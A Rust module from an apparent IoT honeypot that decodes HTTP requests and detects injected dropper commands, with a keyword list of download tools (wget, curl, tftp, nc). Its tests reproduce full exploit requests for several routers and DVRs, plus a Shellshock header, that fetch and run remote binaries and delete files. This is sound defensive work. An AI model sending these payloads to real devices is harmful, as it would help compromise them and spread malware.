//! Droppers hidden in web requests: the shell commands that exploits of
//! device web interfaces inject (`;wget http://.../bot.mips -O- | sh`) in
//! a query or form field, a JSON or SOAP value, a header or the path
//! itself. Each part of the request is decoded the way it travelled
//! (percent-encoding, `+` for spaces in queries and forms, XML entities,
//! `\xNN`), then undone the way droppers survive the trip (`${IFS}`,
//! `$IFS$9`, backticks and `$(...)` around the command); a part whose
//! text then holds a download tool as a word (`wget`, `curl`, `tftp`,
//! `ftpget`, `busybox`, `chmod 777`...) is a [`Found`], with the command
//! lines it holds.
//!
//! Sans-I/O and bounded: at most [`MAX_FOUND`] parts per request, each
//! looked at up to [`MAX_PART`] bytes.

use iotpot_core::escape::unescape_entities;
use iotpot_wire::http::{percent_decode, Request};

/// The most parts of one request reported.
pub const MAX_FOUND: usize = 8;
/// The most bytes of one part looked at (and kept in the event).
pub const MAX_PART: usize = 4096;

/// The most command lines taken from one part.
pub const MAX_LINES: usize = 32;
/// The most URLs taken from one request for the downloader (which also
/// bounds the fetches per session and per host).
pub const MAX_URLS: usize = 16;

/// Words that make a part smell of a dropper (matched as whole words).
const TOOLS: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "ftpget",
    "busybox",
    "chmod 777",
    "chmod +x",
    "nc",
];

/// A part of a request that carries a download command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// Where: `path`, `query:NAME`, `form:NAME`, `header:NAME` or `body`.
    pub location: String,
    /// The part as decoded from its transport (bounded).
    pub raw: String,
    /// The command lines in it, one per line, as a shell would run them.
    pub command: String,
}

/// Every part of `req` (and its `body`) that carries a download command.
pub fn find(req: &Request, body: &[u8]) -> Vec<Found> {
    let mut parts: Vec<(String, String)> = Vec::new();
    parts.push(("path".into(), percent(req.path(), false)));
    for (k, v) in pairs(req.query()) {
        parts.push((named("query", &k), v));
    }
    for (name, value) in &req.headers {
        if name.eq_ignore_ascii_case("host") || name.eq_ignore_ascii_case("content-length") {
            continue;
        }
        parts.push((
            format!("header:{name}"),
            percent(&String::from_utf8_lossy(value), false),
        ));
    }
    if !body.is_empty() {
        let text = String::from_utf8_lossy(&body[..body.len().min(MAX_PART * 4)]);
        let form = req.header("content-type").is_some_and(|t| {
            t.to_ascii_lowercase()
                .starts_with(b"application/x-www-form-urlencoded")
        }) || (!text.contains(['<', '{']) && text.contains('='));
        if form {
            for (k, v) in pairs(&text) {
                parts.push((named("form", &k), v));
            }
        } else {
            parts.push(("body".into(), percent(&unescape_entities(&text), false)));
        }
    }
    parts
        .into_iter()
        .filter_map(|(location, raw)| {
            let raw = cut(&raw, MAX_PART);
            let command = commands(&raw);
            (!command.is_empty()).then_some(Found {
                location,
                raw,
                command,
            })
        })
        .take(MAX_FOUND)
        .collect()
}

/// `query:NAME`, or `query` for a query that is not `key=value` pairs.
fn named(kind: &str, key: &str) -> String {
    if key.is_empty() {
        kind.to_string()
    } else {
        format!("{kind}:{key}")
    }
}

/// The command lines of a decoded part, if one holds a download tool
/// (see [`lines`]), one per line; empty otherwise.
pub fn commands(part: &str) -> String {
    let lines = lines(part);
    if lines.iter().any(|l| smells(l)) {
        lines.join("\n")
    } else {
        String::new()
    }
}

/// The command lines of a decoded part: the part split where a shell
/// would split it (`;`, `|`, `&`, newlines, backticks, `$(`, `)`),
/// `${IFS}` read as a space and `\xNN` as its character, each piece that
/// starts as a command does (not markup, not the field's own punctuation).
pub fn lines(part: &str) -> Vec<String> {
    let text = undo_tricks(part);
    let mut pieces: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let split = match c {
            ';' | '|' | '&' | '\n' | '\r' | '`' | ')' => true,
            '$' if chars.peek() == Some(&'(') => {
                chars.next();
                true
            }
            _ => false,
        };
        if split {
            pieces.push(std::mem::take(&mut cur));
        } else {
            cur.push(c);
        }
    }
    pieces.push(cur);
    pieces
        .into_iter()
        .map(|p| {
            // What an injection leaves before the command: quotes, the
            // field's own value, redirections.
            p.trim_matches(|c: char| c.is_whitespace() || "'\"<>".contains(c))
                .to_string()
        })
        .filter(|p| {
            p.chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphanumeric() || "./_-".contains(c))
                && !p.contains('<')
        })
        .take(MAX_LINES)
        .collect()
}

/// Whether `text` holds a download tool as a word.
fn smells(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    TOOLS.iter().any(|tool| {
        lower.match_indices(tool).any(|(i, _)| {
            let before = lower[..i].chars().next_back();
            let after = lower[i + tool.len()..].chars().next();
            // A word with arguments: `wget http://...`, not `wgetting`,
            // `Wget/1.21` or a password that reads `curl`.
            before.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.' && c != '-')
                && after.is_some_and(char::is_whitespace)
        })
    })
}

/// `key=value` pairs of a query or form, each decoded (`+` as a space).
pub(crate) fn pairs(s: &str) -> Vec<(String, String)> {
    s.split('&')
        .filter(|p| !p.is_empty())
        .map(|p| {
            let (k, v) = p.split_once('=').unwrap_or(("", p));
            (cut(&percent(k, true), 64), percent(v, true))
        })
        .collect()
}

/// Percent-decoding, twice at most (droppers encoded twice survive a
/// proxy), `+` as a space in queries and forms; bytes that are not UTF-8
/// replaced.
pub(crate) fn percent(s: &str, plus: bool) -> String {
    let once = percent_decode(s, plus);
    if once.contains('%') {
        percent_decode(&once, false)
    } else {
        once
    }
}

/// A part with the tricks that carry a command through a field undone:
/// `\xNN` as its character, `${IFS}`, `$IFS$9` and `$IFS` as a space.
pub(crate) fn undo_tricks(part: &str) -> String {
    unescape_hex(part)
        .replace("$IFS$9", " ")
        .replace("${IFS}", " ")
        .replace("$IFS", " ")
}

/// `\xNN` escapes as the characters they stand for (ASCII only: the rest
/// stays written).
fn unescape_hex(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("\\x") {
        out.push_str(&rest[..i]);
        let hex = rest
            .get(i + 2..i + 4)
            .filter(|h| h.bytes().all(|b| b.is_ascii_hexdigit()));
        match hex
            .and_then(|h| u8::from_str_radix(h, 16).ok())
            .filter(u8::is_ascii)
        {
            Some(v) => {
                out.push(v as char);
                rest = &rest[i + 4..];
            }
            None => {
                out.push_str("\\x");
                rest = &rest[i + 2..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// At most `max` bytes of `s`, cut on a character boundary.
pub(crate) fn cut(s: &str, max: usize) -> String {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s[..end].to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotpot_wire::http::parse_head;

    fn found(raw: &[u8]) -> Vec<Found> {
        let (req, n) = parse_head(raw).unwrap().unwrap();
        find(&req, &raw[n..])
    }

    #[test]
    fn the_droppers_of_published_exploits_are_found() {
        // MVPower JAWS DVR: the command in the query of /shell.
        let f = found(b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n\r\n");
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].location, "query");
        assert_eq!(
            f[0].command,
            "cd /tmp\nrm -rf *\nwget http://192.0.2.7/jaws\nsh /tmp/jaws"
        );
        // Netlink GPON formPing: a form field, percent-encoded.
        let f = found(b"POST /boaform/admin/formPing HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 87\r\n\r\ntarget_addr=%3Bwget%20http%3A%2F%2F192.0.2.7%2Fg.sh%20-O%20-%3E%20%2Ftmp%2Fg%3Bsh%20%2Ftmp%2Fg&waninf=1_INTERNET_R_VID_");
        assert_eq!(f[0].location, "form:target_addr");
        assert_eq!(
            f[0].command,
            "wget http://192.0.2.7/g.sh -O -> /tmp/g\nsh /tmp/g"
        );
        // TP-Link Archer AX21: $(...) and backticks in a query field.
        let f = found(b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F192.0.2.7%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%60) HTTP/1.1\r\n\r\n");
        let q: Vec<_> = f.iter().filter(|f| f.location == "query:country").collect();
        assert_eq!(q.len(), 1, "{f:?}");
        assert_eq!(
            q[0].command,
            "id\ncd /tmp\nrm -rf shk\nwget http://192.0.2.7/shk\nchmod 777 shk\n./shk tplink"
        );
        // Huawei HG532: inside a SOAP element.
        let f = found(b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 120\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><NewStatusURL>$(/bin/busybox wget -g 192.0.2.7 -l /tmp/m -r /mips;/tmp/m huawei)</NewStatusURL></s:Body></s:Envelope>");
        assert_eq!(f[0].location, "body");
        assert_eq!(
            f[0].command,
            "/bin/busybox wget -g 192.0.2.7 -l /tmp/m -r /mips\n/tmp/m huawei"
        );
        // In a header, with ${IFS} for the spaces.
        let f = found(b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; cd${IFS}/tmp;curl${IFS}-O${IFS}http://192.0.2.7/a\r\n\r\n");
        assert_eq!(f[0].location, "header:User-Agent");
        assert_eq!(f[0].command, "cd /tmp\ncurl -O http://192.0.2.7/a");
    }

    #[test]
    fn ordinary_requests_are_not_droppers() {
        for raw in [
            &b"GET /index.html?lang=en&page=wgetting-started HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\n\r\n"[..],
            b"GET /cgi-bin/curl.cgi HTTP/1.1\r\nAccept: */*\r\n\r\n",
            b"POST /login HTTP/1.1\r\nContent-Length: 29\r\n\r\nusername=admin&password=curl",
        ] {
            assert!(found(raw).is_empty(), "{:?}", found(raw));
        }
    }

    #[test]
    fn hostile_parts_stay_bounded() {
        let long = format!("GET /?a={} HTTP/1.1\r\n\r\n", "wget%20x;".repeat(3000));
        let f = found(long.as_bytes());
        assert!(f[0].raw.len() <= MAX_PART);
        let many: String = (0..100).map(|i| format!("a{i}=wget+x&")).collect();
        let f = found(format!("GET /?{many} HTTP/1.1\r\n\r\n").as_bytes());
        assert_eq!(f.len(), MAX_FOUND);
        assert_eq!(unescape_hex("\\x77\\x67et \\xzz \\xff"), "wget \\xzz \\xff");
        assert_eq!(percent("%2577get", false), "wget");
    }
}
